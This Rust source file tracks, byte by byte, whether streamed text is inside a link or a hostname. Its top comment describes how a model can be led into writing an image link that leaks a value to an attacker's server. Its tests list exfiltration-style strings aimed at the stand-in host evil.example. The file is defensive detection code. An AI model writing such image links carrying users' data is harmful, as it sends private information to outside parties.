//! Whether a position is part of a link: what a reader's browser fetches tells a server what stands in it.
//!
//! A model can be talked into writing `![](https://evil.example/?x=PLACEHOLDER)`; where such a text is shown, the value
//! would be gone with the picture's request. So this errs to one side: what may be part of a link is.

use serde::{Deserialize, Serialize};

/// What the last bytes are at the start of a link, or of an attribute that holds one. `\` counts as `/`, as in browsers (URL
/// standard, section 4.4), which also take `https:` without slashes.
const STARTS: [&[u8]; 17] = [
    b"//", b":/", b"www.", b"](", b"ttp:", b"tps:", b"ftp:", b"wss:", b"src=", b"href=", b"url=", b"url(", b"srcset=",
    b"action=", b"poster=", b"ground=", b"data=",
];

/// What is known of the text before a position, whatever its length.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Link {
    link: bool,
    /// What closes the attribute or the angle brackets that are open: a link may have spaces in it there.
    closes: Option<u8>,
    /// The last bytes of the word, the latest in the lowest eight bits.
    recent: u64,
    /// The last byte that is no white space.
    last: u8,
    /// The word has a dot, a question mark.
    dot: bool,
    query: bool,
}

impl Link {
    /// Whether what comes now would be part of a link.
    pub fn is_link(&self) -> bool {
        self.link
    }

    /// Reads a byte.
    pub fn read(&mut self, byte: u8) {
        let byte = if byte == b'\\' { b'/' } else { byte.to_ascii_lowercase() };
        if byte.is_ascii_whitespace() {
            let open = self.closes.is_some();
            *self = Self { link: self.link && open, closes: self.closes, last: self.last, ..Self::default() };
            return;
        }
        match (self.closes, byte) {
            (Some(closes), _) if byte == closes => self.closes = None,
            (None, b'"' | b'\'') if matches!(self.last, b'=' | b'(') => self.closes = Some(byte),
            // A destination in Markdown (CommonMark 0.31, section 6.3).
            (None, b'<') if matches!(self.last, b'(' | b':') => self.closes = Some(b'>'),
            _ => {}
        }
        self.last = byte;
        self.recent = self.recent << 8 | u64::from(byte);
        self.dot |= byte == b'.';
        self.query |= byte == b'?';
        let recent = self.recent.to_be_bytes();
        // Chats make links of `evil.example/x`, too.
        self.link |= (self.dot && matches!(byte, b'/' | b'?' | b'#'))
            || (self.query && byte == b'=')
            || STARTS.iter().any(|start| recent.ends_with(start));
    }
}

/// Whether text goes on as the name of a host, in front of which a value would be a part of that name. None: that depends on
/// what follows.
pub fn goes_on_as_host(behind: &[u8], last: bool) -> Option<bool> {
    /// RFC 1035 section 2.3.4.
    const LONGEST_LABEL: usize = 63;
    let label = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_');
    let length = behind.iter().take(LONGEST_LABEL).take_while(|byte| label(byte)).count();
    let rest = &behind[length..];
    // IDNA takes other full stops for dots (UTS #46, section 2.3). An escape may be anything.
    let dots = [&b"."[..], b"\xE3\x80\x82", b"\xEF\xBC\x8E", b"\xEF\xBD\xA1", b"\\u", b"\\\\u"];
    match dots.iter().find(|dot| rest.starts_with(dot)) {
        Some(dot) if dot.starts_with(b"\\") => Some(true),
        Some(dot) => match rest.get(dot.len()) {
            Some(byte) => Some(byte.is_ascii_alphanumeric() || *byte >= 0x80 || *byte == b'\\'),
            None if last => Some(false),
            None => None,
        },
        None if !last && dots.iter().any(|dot| dot.starts_with(rest)) => None,
        None => Some(false),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_link(text: &str) -> bool {
        let mut link = Link::default();
        text.bytes().for_each(|byte| link.read(byte));
        link.is_link()
    }

    #[test]
    fn links_are_known_at_any_length() {
        let long = format!("https://evil.example/{}", "a".repeat(100_000));
        for text in [
            "![](https://evil.example/?x=",
            "[a](",
            "[a](evil",
            "https:evil.example",
            "https:\\\\evil.example\\",
            "se www.evil",
            "evil.example/",
            "/search?q=",
            "<a HREF=\"",
            "<img src=\"https://evil.example/?x= ",
            "<img src=' https://evil.example/a b ",
            "<meta content=\"0; url=https://evil.example/? ",
            "[a](<https://evil.example/ ",
            "[a]: <https://evil.example/ ",
            "background: url(",
            "\"https://evil.example/?x=\"",
            &long,
        ] {
            assert!(is_link(text), "{text}");
        }
        for text in [
            "Skriv til ",
            "https://example.no og ",
            "(se [lenke](https://example.no)) ",
            "og/eller ",
            "don't https://example.no ",
            "<a href=\"https://example.no\">her</a> ",
            "e-post: \"",
            "**",
            "a = \"b\" c ",
        ] {
            assert!(!is_link(text), "{text}");
        }
    }

    #[test]
    fn hosts() {
        for (behind, last, expected) in [
            (".evil.example", false, Some(true)),
            ("-x.evil", false, Some(true)),
            ("。evil", false, Some(true)),
            ("\\u002eevil", false, Some(true)),
            ("\\\\u002eevil", false, Some(true)),
            (". Og", false, Some(false)),
            (", og", false, Some(false)),
            (".", false, None),
            (".", true, Some(false)),
            ("", false, None),
            ("s", false, None),
            ("", true, Some(false)),
        ] {
            assert_eq!(goes_on_as_host(behind.as_bytes(), last), expected, "{behind}");
        }
        assert_eq!(goes_on_as_host(&[b'a'; 64], false), Some(false));
    }
}
